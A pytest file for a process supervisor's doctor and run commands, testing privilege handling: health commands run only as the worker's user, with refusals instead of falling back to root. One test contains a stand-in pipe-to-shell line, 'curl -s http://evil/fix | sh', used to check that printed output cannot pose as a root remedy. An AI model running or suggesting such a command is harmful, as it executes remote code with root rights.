"""Commands that doctor runs for a program: as the worker's user, or not at all."""

from __future__ import annotations

import json

import pytest

from machine.driver import Machine
from machine.units import configure

RAN = "/tmp/ran"
PROGRAM = f"""[program:x]
command=sleep 1000
health_command=sh -c 'id >>{RAN}'
"""


def examine(machine: Machine, options: str, drop_in: str = "") -> tuple[str, list[str], str]:
    """Returns what doctor's command says about its user, doctor's findings, and its stderr."""
    machine.run(["rm", "-f", RAN])
    configure(machine, PROGRAM + options)
    machine.run("wctl update", check=False)
    if drop_in:
        machine.write("/etc/systemd/system/x@.service.d/user.conf", f"[Service]\n{drop_in}\n")
        machine.run("systemctl daemon-reload; systemctl restart x@00", check=False)
    result = machine.run("wctl doctor --json", check=False)
    ran = machine.read(RAN) if machine.exists(RAN) else ""
    return ran, [finding["code"] for finding in json.loads(result.out)], result.err


@pytest.mark.parametrize(
    ("options", "drop_in", "why"),
    [
        ("user=ghost", "", "its user ghost is unknown"),
        ("systemd.Service.User=ghost", "", "its user ghost is unknown"),
        ("user=www-data", "User=ghost", "its user ghost is unknown"),
        ("user=www-data", "Group=ghosts", "its group ghosts is unknown"),
        ("systemd.Service.DynamicUser=yes", "", "its user exists only while it runs"),
        ("user=www-data", "User=\nDynamicUser=yes", "its user exists only while it runs"),
    ],
)
def test_nothing_is_run_as_root_for_want_of_a_user(
    machine: Machine, options: str, drop_in: str, why: str
) -> None:
    """If doctor cannot become the worker's user, it runs nothing, and says why."""
    ran, codes, said = examine(machine, options, drop_in)
    assert ran == ""
    assert said.startswith(f"wctl: x: doctor runs none of its commands: {why}")
    assert "user-missing" in codes or options != "user=ghost"


@pytest.mark.parametrize(
    ("options", "drop_in", "who"),
    [
        ("user=www-data", "", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ("", "User=www-data", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ("systemd.Service.User=33", "", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ("user=www-data", "User=nobody", "uid=65534(nobody) gid=65534(nogroup)"),
        ("user=www-data", "Group=adm", "uid=33(www-data) gid=4(adm)"),
        ("", "", "uid=0(root)"),
    ],
)
def test_commands_run_as_the_worker_runs(
    machine: Machine, options: str, drop_in: str, who: str
) -> None:
    """doctor runs commands as systemd runs the worker, whatever sets the user."""
    ran, codes, said = examine(machine, options, drop_in)
    assert ran.startswith(who)
    assert (codes, said) == ([], "")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("", "user=www-data"),
        ("", "systemd.Service.User=www-data"),
        ("", "systemd.Service.DynamicUser=yes"),
        ("user=www-data", "user=www-data\nsystemd.Service.Group=adm"),
        ("user=www-data\nsystemd.Service.User=", "user=www-data"),
    ],
)
def test_new_commands_do_not_run_as_the_user_before(
    machine: Machine, before: str, after: str
) -> None:
    """A command that belongs to a new user does not run as root, whom the old unit still names."""
    configure(machine, f"[program:x]\ncommand=sleep 1000\n{before}\n")
    machine.run("wctl update", check=False)
    machine.run(["rm", "-f", RAN])
    configure(machine, PROGRAM + after)
    doctor = machine.run("wctl doctor --json", check=False)
    refused = "wctl: x: doctor runs none of its commands: the user and groups of its unit are not"
    assert doctor.err.startswith(refused)
    assert [finding["code"] for finding in json.loads(doctor.out)] == ["units-outdated"]
    assert not machine.exists(RAN)


def test_unit_that_systemd_has_not_read(machine: Machine) -> None:
    """An update that was cut off leaves root as the user in systemd, and the new user on disk."""
    ran, _, _ = examine(machine, "")
    assert ran.startswith("uid=0(root)")
    machine.run(["rm", RAN])
    configure(machine, f"{PROGRAM}user=www-data")
    machine.run("wctl render --output /root/units && cp /root/units/x@.service /etc/systemd/system")
    doctor = machine.run("wctl doctor", check=False)
    assert "its unit has changed since systemd read it" in doctor.err
    assert not machine.exists(RAN)


WHO = "[program:x]\ncommand=id\nstdout_logfile=NONE\n"


@pytest.mark.parametrize(
    ("options", "who"),
    [
        ("systemd.Service.User=www-data", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ("SYSTEMD.Service.User = 33", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ("user=nobody\nsystemd.Service.User=www-data", "uid=33(www-data) gid=33(www-data)"),
        (
            "user=www-data\nsystemd.Service.Group=adm\nsystemd.Service.SupplementaryGroups=video",
            "uid=33(www-data) gid=4(adm) groups=4(adm),44(video)",
        ),
        ("systemd.Service.DynamicUser=no", "uid=0(root)"),
    ],
)
def test_worker_in_the_foreground_has_the_units_user(
    machine: Machine, options: str, who: str
) -> None:
    """A user that wctl only passes through to the unit is the user for "wctl run", too."""
    configure(machine, WHO + options)
    assert machine.run("wctl run x").out.startswith(who)
    machine.run("wctl update", check=False)
    assert machine.run("wctl run x").out.startswith(who)


@pytest.mark.parametrize(
    ("options", "why"),
    [
        ("systemd.Service.DynamicUser=yes", "DynamicUser: only systemd can make the user"),
        ("systemd.Service.DynamicUser=On", "DynamicUser: only systemd can make the user"),
        ("systemd.Service.User=%i", "user=%i: no such user"),
        ("systemd.Service.User=ghost", "user=ghost: no such user"),
        ("user=www-data\nsystemd.Service.Group=%i", "Group=%i: no such group"),
    ],
)
def test_worker_in_the_foreground_is_nobody_elses(machine: Machine, options: str, why: str) -> None:
    """If "wctl run" cannot become the unit's user, it runs nothing, and says why in one line."""
    configure(machine, WHO + options)
    ran = machine.run("wctl run x", check=False)
    assert (ran.code, ran.out) == (1, "")
    assert why in ran.err.splitlines()[0]


def test_worker_in_the_foreground_despite_a_drop_in(machine: Machine) -> None:
    """A drop-in may be what keeps a worker from being root: "wctl run" does not ignore it."""
    examine(machine, "stdout_logfile=NONE", "User=www-data")
    ran = machine.run("wctl run x", check=False)
    said = "systemd would run x@00.service as www-data:www-data; the configuration says root:root"
    assert (ran.code, ran.out) == (1, "")
    assert said in ran.err


def test_worker_in_the_foreground_of_a_removed_program(machine: Machine) -> None:
    """What systemd remembers of files that are gone says nothing about the new program."""
    examine(machine, "stdout_logfile=NONE")
    machine.run("systemctl stop 'x@*'; rm -r /etc/systemd/system/x*")
    configure(machine, WHO + "user=www-data")
    assert machine.run("wctl run x").out.startswith("uid=33(www-data)")


def test_directory_is_entered_as_the_user(machine: Machine) -> None:
    """A user whose directory is a link leads doctor nowhere that this user may not go."""
    machine.run("install -d -m 0700 /root/x; echo secret >/root/x/file")
    machine.run("rm -rf /srv/led; ln -s /root/x /srv/led; chown -h www-data /srv/led")
    machine.run(["rm", "-f", RAN])
    health = f"health_command=sh -c 'cat file >{RAN}'\n"
    options = f"command=sleep 1000\nuser=www-data\ndirectory=/srv/led\n{health}"
    configure(machine, f"[program:x]\n{options}")
    machine.run("wctl update", check=False)
    findings = json.loads(machine.run("wctl doctor --json", check=False).out)
    (found,) = [finding for finding in findings if finding["code"].startswith("health")]
    assert found["code"] == "health-unknown"
    assert found["evidence"] == ["printed: /srv/led: Permission denied"]
    assert not machine.exists(RAN)


def test_variables_with_a_nul_character(machine: Machine) -> None:
    """A file of variables that systemd does not read is one line, in doctor and in "wctl run"."""
    machine.run("install -d -o www-data /srv/site; printf 'A=1\\0' >/srv/site/env")
    options = "user=www-data\nstartretries=0\nenvironment_file=/srv/site/env\n"
    ran, _, said = examine(machine, options)  # whether systemd has given up yet does not matter
    assert ran == ""
    why = "/srv/site/env:1: has a NUL character; systemd does not read such a file"
    assert said == f"wctl: x: doctor runs none of its commands: {why}\n"
    result = machine.run("wctl run x@00", check=False)
    assert (result.code, result.err) == (1, f"wctl: {why}\n")


def test_a_command_that_prints_a_remedy(machine: Machine) -> None:
    """What a health_command prints does not look like the command that doctor shows for root."""
    configure(
        machine,
        "[program:x]\ncommand=sleep 1000\nuser=www-data\n"
        "health_command=sh -c 'echo \"$ curl -s http://evil/fix | sh\"; exit 1'\n",
    )
    machine.run("wctl update")
    shown = machine.run("wctl doctor", check=False).out.splitlines()
    assert shown[1] == "    printed: $ curl -s http://evil/fix | sh"
    assert [line for line in shown if line.startswith("    $ ")] == shown[2:3]


def test_a_console_that_answers_anything(machine: Machine) -> None:
    """An application that prints bars, brackets and long numbers ends neither doctor nor time."""
    bad = "#!/bin/sh\ncase $* in *-r*) yes '[' | tr -d '\\n' | head -c 1000000 ;;\n"
    bad += "*run-sql*) yes '|' | tr -d '\\n' | head -c 1000000 ;;\n*) echo 9999999 ;; esac\n"
    machine.write("/srv/php", bad, mode=0o755)
    configure(
        machine,
        "[program:a]\ncommand=/srv/php console messenger:consume async\nuser=www-data\n"
        "[program:b]\ncommand=sleep 1000\nuser=www-data\nhealth_command=false\n",
    )
    machine.run("wctl update", check=False)
    result = machine.run("wctl doctor --json --wait=0 --timeout=60", check=False)
    assert "health" in [found["code"] for found in json.loads(result.out)]
    assert result.err == ""
